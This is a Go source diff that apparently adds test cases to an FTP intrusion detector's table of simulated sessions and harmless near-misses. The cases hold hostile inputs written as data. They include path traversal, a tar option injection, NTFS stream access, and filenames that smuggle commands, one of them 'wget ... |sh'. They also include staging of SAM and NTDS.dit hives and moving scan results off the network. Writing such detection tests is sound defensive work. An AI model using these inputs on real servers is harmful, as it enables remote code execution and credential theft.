@@ -8,6 +8,7 @@ import (
 	"fmt"
 	"net/netip"
 	"slices"
+	"strings"
 	"time"
 
 	"ftplab/lab/internal/forge"
@@ -144,6 +145,28 @@ var nearby = []lookalike{
 		session1("")(f)
 	}},
 
+	{"a way out by names with a colon", "no-climbing", "", session1("> RETR ..:/..:/program files/a.ini\n< 550 no")},
+	{"a folder whose name ends in a colon", "no-climbing", IsNormal, session1("> RETR drafts..:/a.ini\n< 550 no")},
+	{"the home of root before the password", "no-known-exploits", "", dialogue("< 220 hi\n> USER ftp\n< 331 and?\n> CWD ~root\n< 530 no\n> PASS ftp\n< 230 in" + bye)},
+	{"the home of root after the login", "no-known-exploits", IsNormal, session1("> CWD ~root\n< 550 no")},
+	{"an option for tar in a name", "no-known-exploits", "", session1("> RETR --use-compress-program=bash b.tar\n< 550 no")},
+	{"a name that begins with hyphens", "no-known-exploits", IsNormal, session1("> RETR --old--.tar\n< 550 no")},
+	{"the stream of a page", "no-known-exploits", "", session1("> RETR default.asp::$DATA\n< 550 no")},
+	{"another stream of a file", "no-known-exploits", IsNormal, session1("> STOR a.docx:Zone.Identifier:$DATA\n< 550 no")},
+	{"a folder of another host", "no-known-exploits", IsUnusual, session1(`> CWD \\203.0.113.74\share` + "\n< 550 no")},
+	{"commands in names", "no-known-exploits", "", session1("> STOR `id>/tmp/o`.jpg\n< 150 go on\n< 226 done")},
+	{"a command in a name, with an argument", "no-known-exploits", "", session1("> STOR a;wget 203.0.113.74 -O- |sh;.jpg\n< 150 go on\n< 226 done")},
+	{"names with marks of shells", "no-known-exploits", IsNormal, session1(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "$(name).tmpl", "`a b`.md", "tea; coffee.txt", "a|b.txt", "How to $(build).txt", "wget, curl & co.txt"))},
+	{"files that nobody may read any more", "files-are-kept", "", session1(numberedLines(20, "> SITE CHMOD 000 a%d.doc\n< 200 ok\n"))},
+	{"files that others may not read any more", "files-are-kept", IsNormal, session1(numberedLines(20, "> SITE CHMOD 600 a%d.doc\n< 200 ok\n") + numberedLines(3, "> SITE CHMOD 000 b%d.php\n< 200 ok\n"))},
+	{"archives that look like pictures", "no-loot", "", moves([2]string{"STOR a.jpg", "7z\xbc\xaf\x27\x1c"}, [2]string{"STOR b.jpg", "7z\xbc\xaf\x27\x1c"}, [2]string{"STOR c.jpg", "7z\xbc\xaf\x27\x1c"})},
+	{"an archive that looks like a picture", "no-loot", IsUnusual, moves([2]string{"STOR a.jpg", "7z\xbc\xaf\x27\x1c"})},
+	{"the hosts of a network, which leave it", "no-loot", "", storesBetween("10.40.3.60", "203.0.113.9", "STOR r.txt", strings.Repeat("Nmap scan report for 10.40.3.1\n22/tcp open ssh\n", 9))},
+	{"the hosts of a network, which stay in it", "no-loot", IsNormal, storesBetween("10.40.3.60", "10.40.3.9", "STOR r.txt", strings.Repeat("Nmap scan report for 10.40.3.1\n22/tcp open ssh\n", 9))},
+	{"parts of the registry under other names", "no-sensitive-names", "", moves([2]string{"STOR 1.tmp", registryPart("SAM")}, [2]string{"STOR 2.tmp", registryPart("SYSTEM")})},
+	{"parts of the registry of programs", "no-sensitive-names", IsNormal, moves([2]string{"STOR 1.tmp", registryPart("settings.dat")}, [2]string{"STOR 2.tmp", registryPart("UsrClass.dat")})},
+	{"the directory of Windows as a backup", "no-sensitive-names", "", moves([2]string{"STOR backup.bak", aDatabase + strings.Repeat("\x00", 99) + "\x00NTDS.dit"})},
+
 	{"a key that is stored under another name", "no-sensitive-names", "", session1("> STOR a.txt\n< 150 go on\n< 226 done\n> RNFR a.txt\n< 350 and?\n> RNTO /root/.ssh/authorized_keys\n< 250 ok")},
 	{"a list of keys that is put aside", "no-sensitive-names", IsUnusual, session1("> RNFR .ssh/authorized_keys\n< 350 and?\n> RNTO .ssh/authorized_keys.old\n< 250 ok")},
 
@@ -189,6 +212,11 @@ var nearby = []lookalike{
 		wantsCard(f, aServer, aClient)
 		claim(f, 0x66, aClient)
 	})},
+}
+
+// registryPart is a part of the registry of Windows with its name.
+func registryPart(name string) string {
+	return "regf" + strings.Repeat("\x00", 44) + wide(`System32\Config\`+name) + strings.Repeat("\x00", 99)
 }
 
 // strange sends a packet with the given flags to each port of the server, which are closed.
